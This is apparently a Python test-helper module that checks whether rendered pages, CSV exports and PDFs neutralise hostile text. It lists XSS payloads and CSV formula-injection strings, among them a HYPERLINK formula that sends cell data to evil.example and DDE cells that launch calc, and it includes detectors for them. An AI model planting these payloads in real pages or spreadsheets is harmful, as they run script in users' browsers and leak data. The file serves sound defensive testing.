"""What a model (or a person) may write that a page must show as text and never run: script, HTML with handlers,
javascript: links in markdown and in LaTeX, and attempts to break out of the page's embedded JSON."""

from __future__ import annotations

import json
import re
from typing import Any

PAYLOADS = (
    "<script>window.__pwned = 1; alert('script')</script>",
    "<img src=x onerror=\"window.__pwned = 2; alert('img')\">",
    '"><svg onload="window.__pwned = 3">',
    "[click here](javascript:window.__pwned=4)",
    "\\href{javascript:window.__pwned=5}{click}",
    "</script><script>window.__pwned = 6</script>",
    '<iframe srcdoc="<script>parent.__pwned = 7</script>"></iframe>',
    '<a href="javascript:window.__pwned=8">link</a>',
    "{{ 7|add:7 }}{% now 'Y' %}",
)
HOSTILE_TEXT = "Answer:\n" + "\n".join(PAYLOADS)
HOSTILE_RESULT = {"summary": HOSTILE_TEXT, "items": list(PAYLOADS), "<b>key</b>": "javascript:alert(1)"}


def live_markup(html: str) -> list[str]:
    """Pieces of a rendered page that would execute or navigate: raw payloads, handlers, javascript: links."""
    found = [payload for payload in PAYLOADS[:3] + PAYLOADS[5:8] if payload in html]
    found += re.findall(r"<[^>]+\son(?:error|load)\s*=\s*[\"']?window\.__pwned", html)
    found += re.findall(r"href\s*=\s*[\"']?\s*javascript:", html, flags=re.IGNORECASE)
    return found


# Cells a spreadsheet would run as formulas (CSV injection), and markup, in strings short enough for any field.
HOSTILE_STRINGS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "<script>window.__pwned=1</script>",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<img src=x onerror=window.__pwned=2>",
    "[open](javascript:window.__pwned=3)",
    "\\href{javascript:window.__pwned=4}{x}",
)


def hostile_instance(schema: dict[str, Any], counter: list[int] | None = None) -> Any:
    """A value valid against a (bounded) JSON schema whose every free string is hostile."""
    counter = counter if counter is not None else [0]
    for combined in ("anyOf", "oneOf", "allOf"):
        if combined in schema:
            options = [s for s in schema[combined] if s.get("type") != "null"]
            return hostile_instance(options[0] if options else {"type": "null"}, counter)
    if "enum" in schema:
        return schema["enum"][0]
    kind = schema.get("type")
    kind = next((k for k in kind if k != "null"), "null") if isinstance(kind, list) else kind
    if kind == "object" or "properties" in schema:
        return {name: hostile_instance(prop, counter) for name, prop in schema.get("properties", {}).items()}
    if kind == "array":
        count = max(schema.get("minItems", 0), min(schema.get("maxItems", 2), 2))
        return [hostile_instance(schema.get("items", {}), counter) for _ in range(count)]
    if kind in ("integer", "number"):
        return schema.get("minimum", 0)
    if kind == "boolean":
        return True
    if kind == "null":
        return None
    counter[0] += 1
    text = HOSTILE_STRINGS[counter[0] % len(HOSTILE_STRINGS)]
    return text[: schema.get("maxLength", len(text))]


def hostile_json(schema: dict[str, Any]) -> str:
    return json.dumps(hostile_instance(schema))


def formula_cells(rows: list[list[str]]) -> list[str]:
    """CSV cells a spreadsheet would evaluate: starting with = + - @ (or tab/CR) and not a plain number."""
    found = []
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell):
                found.append(cell)
    return found


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


PDF_ACTIVE_CONTENT = (b"/JavaScript", b"/JS ", b"/JS(", b"/Launch", b"/EmbeddedFile", b"/RichMedia", b"/AA ")


def pdf_active_content(data: bytes) -> list[str]:
    """Things in a PDF that run or navigate on their own: scripts, launches, javascript: links."""
    found = [marker.decode() for marker in PDF_ACTIVE_CONTENT if marker in data]
    found += [m.decode() for m in re.findall(rb"/URI\s*\(\s*javascript:[^)]*\)", data, flags=re.IGNORECASE)]
    return found
